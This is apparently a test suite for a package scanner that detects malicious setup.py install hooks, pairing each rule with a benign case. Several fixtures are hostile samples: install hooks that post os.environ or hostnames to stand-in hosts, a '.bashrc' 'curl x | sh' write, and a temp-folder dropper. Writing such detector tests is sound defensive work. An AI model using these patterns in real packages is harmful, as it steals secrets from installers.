"""Install-time rules: a malicious setup.py and a benign look-alike per rule."""

from __future__ import annotations

from rulekit import ids, package, py, run, text

from pipvet.analysis.context import FileKind
from pipvet.analysis.rules.install import RULES
from pipvet.models import Severity, Stage


def _setup(source: str) -> list:  # type: ignore[type-arg]
    return run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL))


def test_setup_phoning_home_with_host_facts_is_critical() -> None:
    findings = _setup(
        "import socket, getpass, requests\n"
        "from setuptools import setup\n"
        "data = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
        "requests.get('http://collector.invalid/x', params=data)\n"
        "setup(name='demo')\n"
    )
    assert ids(findings) == {"PV-INS-001"}
    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank
    assert all(f.stage is Stage.INSTALL for f in findings)


def test_setup_network_inside_a_helper_it_calls_is_seen() -> None:
    findings = _setup(
        "import urllib.request\nfrom setuptools import setup\n"
        "def fetch():\n    urllib.request.urlopen('http://x.invalid/a')\n"
        "fetch()\nsetup(name='demo')\n"
    )
    assert "PV-INS-001" in ids(findings)


def test_benign_setup_reading_version_and_calling_git_is_quiet() -> None:
    findings = _setup(
        "import subprocess, re\nfrom setuptools import setup, find_packages\n"
        "version = re.search(r'\\d+', open('demo/__init__.py').read()).group(0)\n"
        "rev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
        "def helper():\n    import urllib.request\n    return urllib.request.urlopen('http://x')\n"
        "setup(name='demo', version=version, packages=find_packages())\n"
    )
    assert findings == []


def test_install_command_override_that_phones_home() -> None:
    findings = _setup(
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "import requests, os\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        requests.post('http://x.invalid', data=dict(os.environ))\n"
        "setup(name='demo', cmdclass={'install': PostInstall})\n"
    )
    assert ids(findings) == {"PV-INS-002"}
    assert findings[0].severity is Severity.CRITICAL


def test_a_child_environment_in_one_method_and_a_download_in_another_are_no_phone_home() -> None:
    """apsw's build command copies os.environ to run ./configure and, elsewhere, downloads the
    SQLite sources: a connection (high), but no facts about the machine sent anywhere."""
    source = (
        "import os, subprocess, urllib.request\n"
        "from setuptools import setup\nfrom distutils.command.build import build\n"
        "def download(url):\n"
        "    return urllib.request.urlopen(url).read()\n"
        "class Build(build):\n"
        "    def run(self):\n"
        "        data = download('https://sqlite.example/sqlite.zip')\n"
        "        env = os.environ.copy()\n"
        "        env['CC'] = 'gcc'\n"
        "        subprocess.call(['./configure'], env=env)\n"
        "setup(name='demo', cmdclass={'build': Build})\n"
    )
    severities = {f.severity for f in _setup(source) if f.rule == "PV-INS-002"}
    assert Severity.CRITICAL not in severities
    assert Severity.HIGH in severities
    sent = source.replace("        data = download('https://sqlite.example/sqlite.zip')\n", "").replace(
        "subprocess.call(['./configure'], env=env)",
        "urllib.request.urlopen('https://x.invalid', str(env).encode())",
    )
    assert Severity.CRITICAL in {f.severity for f in _setup(sent) if f.rule == "PV-INS-002"}


def test_build_ext_override_running_cmake_is_quiet() -> None:
    findings = _setup(
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class CMakeBuild(build_ext):\n"
        "    def run(self):\n"
        "        subprocess.check_call(['cmake', '--build', '.'])\n"
        "        super().run()\n"
        "setup(name='demo', cmdclass={'build_ext': CMakeBuild})\n"
    )
    assert findings == []


def test_command_class_outside_install_files_is_not_judged() -> None:
    # setuptools' own command classes live in ordinary modules, not in the setup script.
    source = (
        "import subprocess\nfrom distutils.command import install as orig\n"
        "class install(orig.install):\n    def run(self):\n        subprocess.call(['sh', '-c', 'x'])\n"
    )
    assert run(RULES, py(source, path="setuptools/command/install.py", stage=Stage.RUNTIME)) == []


def test_in_tree_backend_is_noted_and_plain_backend_is_not() -> None:
    toml = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
    file = text(toml, path="demo-1.0/pyproject.toml", kind=FileKind.TEXT, stage=Stage.INSTALL)
    findings = run(RULES, file, package())
    assert ids(findings) == {"PV-INS-003"}
    assert findings[0].severity is Severity.LOW
    plain = text(
        '[build-system]\nbuild-backend = "setuptools.build_meta"\n',
        path="demo-1.0/pyproject.toml",
        kind=FileKind.TEXT,
        stage=Stage.INSTALL,
    )
    assert run(RULES, plain) == []


def test_setup_writing_into_the_user_profile_and_running_network_tools() -> None:
    findings = _setup(
        "import os, subprocess\nfrom setuptools import setup\n"
        "p = os.getenv('APPDATA') + '\\\\Extension\\\\background.js'\n"
        "with open(p, 'w') as fh:\n    fh.write('x')\n"
        "subprocess.getoutput('dig @1.1.1.1 probe.example.invalid')\n"
        "setup(name='demo')\n"
    )
    severities = {f.message.split(" (")[0]: f.severity for f in findings}
    assert ids(findings) == {"PV-INS-001"}
    assert len(findings) == 2
    assert set(severities.values()) == {Severity.HIGH}


def test_setup_writing_its_own_version_file_is_quiet() -> None:
    assert (
        _setup("from setuptools import setup\nopen('acme/_version.py', 'w').write('v = 1')\nsetup()\n") == []
    )


def test_setup_download_beside_the_working_folder_is_not_a_phone_home() -> None:
    findings = _setup(
        "import os, urllib.request\nfrom setuptools import setup\n"
        "HERE = os.getcwd()\n"
        "def fonts():\n    return urllib.request.urlopen('https://fonts.example/t1.zip').read()\n"
        "fonts()\nsetup(name='demo')\n"
    )
    assert [f.severity for f in findings if f.rule == "PV-INS-001"] == [Severity.HIGH]


def test_a_method_reached_through_an_instance_the_command_made_runs_at_install() -> None:
    findings = _setup(
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "import requests, os\n"
        "class Reporter:\n"
        "    def send(self):\n"
        "        requests.post('http://x.invalid', data=dict(os.environ))\n"
        "class PostInstall(install):\n"
        "    def run(self):\n"
        "        install.run(self)\n"
        "        reporter = Reporter()\n"
        "        reporter.send()\n"
        "setup(name='demo', cmdclass={'install': PostInstall})\n"
    )
    assert "PV-INS-002" in ids(findings)
    assert max(f.severity.rank for f in findings) == Severity.CRITICAL.rank


def test_a_build_helper_instance_asking_pg_config_is_a_build_step() -> None:
    # psycopg2's shape: the path of pg_config (pg_config.exe from the registry on Windows) is
    # found by a helper object whose method runs it; asking a library for its flags is routine.
    findings = _setup(
        "import os, subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class Config:\n"
        "    def __init__(self):\n"
        "        self.exe = self.find() or os.path.join(os.environ['PGDIR'], 'bin', 'pg_config.exe')\n"
        "    def find(self):\n"
        "        return 'pg_config'\n"
        "    def query(self, what):\n"
        "        return subprocess.run([self.exe, '--' + what], stdout=subprocess.PIPE).stdout\n"
        "class BuildExt(build_ext):\n"
        "    def finalize_options(self):\n"
        "        helper = Config()\n"
        "        self.library_dirs.append(helper.query('libdir'))\n"
        "setup(name='demo', cmdclass={'build_ext': BuildExt})\n"
    )
    assert findings == []
    dropped = _setup(
        "import subprocess\nfrom setuptools import setup\n"
        "from setuptools.command.build_ext import build_ext\n"
        "class Runner:\n"
        "    def go(self):\n"
        "        subprocess.Popen(['C:/Users/Public/update.exe'])\n"
        "class BuildExt(build_ext):\n"
        "    def run(self):\n"
        "        runner = Runner()\n"
        "        runner.go()\n"
        "setup(name='demo', cmdclass={'build_ext': BuildExt})\n"
    )
    assert "PV-INS-002" in ids(dropped)


def test_library_flag_tools_and_pip_on_the_tree_itself_are_build_steps() -> None:
    findings = _setup(
        "import os\nfrom setuptools import setup\n"
        "flags = os.popen('odbc_config --cflags 2>/dev/null').read()\n"
        "os.system('pip install .')\n"
        "setup(name='demo')\n"
    )
    assert findings == []
    other = _setup("import os\nfrom setuptools import setup\nos.system('pip install colourama')\nsetup()\n")
    assert [f.severity for f in other] == [Severity.MEDIUM]


def test_pip_installing_from_an_address_outside_the_index_is_high() -> None:
    for command in (
        "[sys.executable, '-m', 'pip', 'install', 'git+https://git.x.invalid/u/tool.git']",
        "'pip install https://files.x.invalid/tool-1.0.tar.gz'",
        "'pip3 install --extra-index-url http://203.0.113.9/simple tool'",
    ):
        findings = _setup(
            "import subprocess, sys\nfrom setuptools import setup\n"
            f"subprocess.call({command}, shell=True)\nsetup()\n"
        )
        assert [(f.rule, f.severity) for f in findings] == [("PV-INS-001", Severity.HIGH)], command
        assert "outside the package index" in findings[0].message
    named = _setup(
        "import subprocess\nfrom setuptools import setup\nsubprocess.call('pip install tool==1.0')\nsetup()\n"
    )
    assert [f.severity for f in named] == [Severity.MEDIUM]


_BUILD_EXT = (
    "import subprocess\n"
    "from setuptools import setup\n"
    "from setuptools.command.build_ext import build_ext\n"
    "class build_bundled(build_ext):\n"
    "    def run(self):\n"
    "        subprocess.check_call(['./{script}'])\n"
    "        super().run()\n"
    "setup(cmdclass={{'build_ext': build_bundled}})\n"
)


def test_build_ext_running_the_archives_own_build_script_is_weak() -> None:
    setup_py = py(_BUILD_EXT.format(script="build_bundled.sh"), path="demo-1.0/setup.py", stage=Stage.INSTALL)
    shipped = package(members=("demo-1.0/setup.py", "demo-1.0/build_bundled.sh"))
    assert [f.severity for f in run(RULES, setup_py, shipped) if f.rule == "PV-INS-002"] == [Severity.LOW]
    # the same call to a program the archive does not ship stays strong
    elsewhere = py(_BUILD_EXT.format(script="payload"), path="demo-1.0/setup.py", stage=Stage.INSTALL)
    assert [f.severity for f in run(RULES, elsewhere, shipped) if f.rule == "PV-INS-002"] == [Severity.HIGH]


def test_setup_py_running_the_archives_own_build_script_at_top_level_is_medium() -> None:
    """gnureadline's setup.py runs ``cd rl && sh ./build.sh > /dev/null 2>&1`` before setup()."""
    source = (
        "import os\nfrom setuptools import setup\n"
        "os.system('cd rl && sh ./{script} > /dev/null 2>&1')\nsetup(name='demo')\n"
    )
    shipped = package(members=("demo-1.0/setup.py", "demo-1.0/rl/build.sh"))

    def severities_of(script: str) -> list[Severity]:
        setup_py = py(source.format(script=script), path="demo-1.0/setup.py", stage=Stage.INSTALL)
        return [f.severity for f in run(RULES, setup_py, shipped) if f.rule == "PV-INS-001"]

    assert severities_of("build.sh") == [Severity.MEDIUM]
    assert severities_of("payload") == [Severity.HIGH]


def test_an_sdist_command_override_does_not_run_on_install() -> None:
    findings = _setup(
        "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.sdist import sdist\n"
        "class gen(sdist):\n    def run(self):\n        subprocess.run(['/bin/sh', 'autogen.sh'])\n"
        "setup(cmdclass={'sdist': gen})\n"
    )
    assert [f.severity for f in findings if f.rule == "PV-INS-002"] == [Severity.LOW]


PUBLISH = (
    "import os, sys\nfrom setuptools import setup\n"
    "{bind}"
    "if {test}:\n"
    "    os.system('twine upload dist/*')\n"
    "    os.system('rm -rf build')\n"
    "    sys.exit()\n"
    "setup(name='demo')\n"
)


def test_release_helpers_behind_a_maintainer_command_never_run_on_install() -> None:
    for bind, test in [
        ("", "sys.argv[-1] == 'publish'"),
        ("", "'publish' in sys.argv"),
        ("", "sys.argv[1] in ('release', 'tag')"),
        ("command = sys.argv[-1]\n", "command == 'coverage'"),
        ("", "'upload' == sys.argv[-1] or 'publish' in sys.argv"),
        ("", "sys.argv[-1].startswith('publish')"),
        ("", "sys.argv[-1] == 'publish-test'"),
        ("", "sys.argv[-1].startswith(('release', 'tag'))"),
    ]:
        assert _setup(PUBLISH.format(bind=bind, test=test)) == [], test


def test_branches_pip_can_reach_still_count() -> None:
    for bind, test in [
        ("", "sys.argv[-1] != 'publish'"),  # runs on install
        ("", "'install' in sys.argv"),  # pip passes install
        ("", "sys.argv[1] == 'egg_info'"),
        ("", "'--quiet' in sys.argv"),  # an option, not a command word
        ("command = sys.argv[-1]\ncommand = 'publish'\n", "command == 'publish'"),  # rebound name
        ("sys.argv.append('publish')\n", "'publish' in sys.argv"),  # the script changes argv
        ("sys.argv[-1] = 'publish'\n", "sys.argv[-1] == 'publish'"),
        ("command = sys.argv[-1]\n", "'pub' in command"),  # a substring of a path pip passes
        ("", "'publish' in sys.argv or True"),
        ("", "sys.argv[-1].startswith('inst')"),  # begins 'install'
        ("", "sys.argv[-1].startswith('pu')"),  # too short to tell from a path
        ("", "sys.argv[-1].startswith('/tmp')"),  # pip passes absolute paths
        ("", "sys.argv[-1].endswith('publish')"),
    ]:
        assert "PV-INS-001" in ids(_setup(PUBLISH.format(bind=bind, test=test))), test


MAIN = (
    "import sys, urllib.request\nfrom setuptools import setup\n"
    "def main(argv):\n"
    "    if len(argv) >= 2 and argv[1] == 'pypi':\n"
    "        with urllib.request.urlopen('https://docs.invalid/') as resp:\n"
    "            resp.read()\n"
    "        return\n"
    "    setup(name='demo')\n"
    "{extra}"
    "if __name__ == '__main__':\n"
    "    main({arg})\n"
)


def test_maintainer_branch_of_a_main_called_with_sys_argv_never_runs_on_install() -> None:
    assert _setup(MAIN.format(extra="", arg="sys.argv")) == []


def test_a_parameter_counts_as_argv_only_when_every_call_passes_sys_argv() -> None:
    for extra, arg in [
        ("", "['setup.py', 'pypi']"),  # the script chooses the words itself
        ("main(['x', 'pypi'])\n", "sys.argv"),  # one call passes something else
        ("def other(argv):\n    return argv\n", "sys.argv"),  # the name means two things
        ("", "sys.argv[:1] + ['pypi']"),
        ("def fix():\n    global argv\n    argv = ['x', 'pypi']\n", "sys.argv"),  # assigned
    ]:
        assert "PV-INS-001" in ids(_setup(MAIN.format(extra=extra, arg=arg))), (extra, arg)


def test_a_script_that_changes_the_list_through_the_parameter_gets_no_exemption() -> None:
    source = MAIN.replace("    if len(argv)", "    argv.append('pypi')\n    if len(argv)").format(
        extra="", arg="sys.argv"
    )
    assert "PV-INS-001" in ids(_setup(source))


def test_from_sys_import_argv_gets_no_exemption() -> None:
    source = PUBLISH.format(bind="from sys import argv\n", test="'publish' in sys.argv")
    assert "PV-INS-001" in ids(_setup(source))


def test_writes_into_the_profile_are_high_and_into_the_temp_folder_low() -> None:
    profile = _setup(
        "import os\nfrom setuptools import setup\n"
        "with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write('curl x | sh')\n"
        "setup(name='demo')\n"
    )
    assert [f.severity for f in profile if f.rule == "PV-INS-001"] == [Severity.HIGH]
    assert "user's own folders" in profile[0].message
    staged = _setup(
        "import os, tempfile\nfrom setuptools import setup\n"
        "def manifest():\n"
        "    path = os.path.join(tempfile.gettempdir(), os.urandom(8).hex())\n"
        "    with open(path, 'w') as fh:\n        fh.write('include *.txt')\n"
        "    return path\n"
        "setup(name='demo', options={'egg_info': {'template': manifest()}})\n"
    )
    assert [f.severity for f in staged if f.rule == "PV-INS-001"] == [Severity.LOW]
    assert "temporary folder" in staged[0].message


def test_a_copy_lands_where_its_destination_says() -> None:
    """pytables copies a library found through ``--blosc2=~/lib`` (a path the user gives) into
    its own tree; the same copy into the home folder is a write into the user's profile."""
    source = (
        "import shutil, sys\nfrom pathlib import Path\nfrom setuptools import setup\n"
        "LIB = Path(sys.argv[-1]).expanduser()\n"
        "for name, where in [('blosc2', LIB), ('hdf5', Path('/usr/lib'))]:\n"
        "    shutil.copy(where / f'lib{name}.so', DEST)\n"
        "setup(name='demo')\n"
    )
    into_tree = _setup(source.replace("DEST", "Path('tables')"))
    assert [f for f in into_tree if "user's own folders" in f.message] == []
    into_home = _setup(source.replace("DEST", "Path.home() / '.local'"))
    assert [f.severity for f in into_home if "user's own folders" in f.message] == [Severity.HIGH]


def test_a_temp_file_written_and_started_is_a_dropper() -> None:
    findings = _setup(
        "import os, tempfile, subprocess, base64\nfrom setuptools import setup\n"
        "BLOB = 'TVqQ'\n"
        "def drop():\n"
        "    path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
        "    with open(path, 'wb') as out:\n        out.write(base64.b64decode(BLOB))\n"
        "    subprocess.Popen(path, shell=True)\n"
        "drop()\nsetup(name='demo')\n"
    )
    writes = [f for f in findings if f.rule == "PV-INS-001" and "temporary folder" in f.message]
    assert [f.severity for f in writes] == [Severity.HIGH]
    assert "starts it (subprocess.Popen(), line 8)" in writes[0].message


def test_switching_on_console_colours_runs_nothing() -> None:
    source = (
        "import os, sys\n"
        "from setuptools import setup\n"
        "if sys.platform == 'win32':\n"
        "    os.system('color')\n"
        "setup()\n"
    )
    assert "PV-INS-001" not in ids(_setup(source))
    assert "PV-INS-001" in ids(_setup(source.replace("'color'", "'colorize.exe'")))


def test_a_build_reading_the_os_name_and_a_profile_its_user_names_is_no_phone_home() -> None:
    """uWSGI's build: ``os.uname()[0]`` picks compiler flags, and a build profile given as a
    URL is fetched from where the user points it; neither is a probe's report."""
    build = (
        "import os, sys\nfrom setuptools import setup\n"
        "uwsgi_os = os.uname()[0]\n"
        "uwsgi_cpu = os.uname().machine\n"
        "def open_profile(filename):\n"
        "    if filename.startswith('http://'):\n"
        "        import urllib.request\n"
        "        return urllib.request.urlopen(filename)\n"
        "    return open(filename)\n"
        "conf = open_profile(os.environ.get('UWSGI_PROFILE', 'buildconf/default.ini'))\n"
        "setup(name='demo')\n"
    )
    found = [f for f in _setup(build) if f.rule == "PV-INS-001"]
    assert [f.severity for f in found] == [Severity.MEDIUM]
    # the host name, or an address the file writes in, is what a probe sends
    probe = build.replace("os.uname()[0]", "os.uname()[1]")
    assert max(f.severity.rank for f in _setup(probe)) == Severity.CRITICAL.rank
    fixed = build.replace("os.environ.get('UWSGI_PROFILE', 'buildconf/default.ini')", "'http://x.invalid/p'")
    assert Severity.HIGH in [f.severity for f in _setup(fixed) if f.rule == "PV-INS-001"]
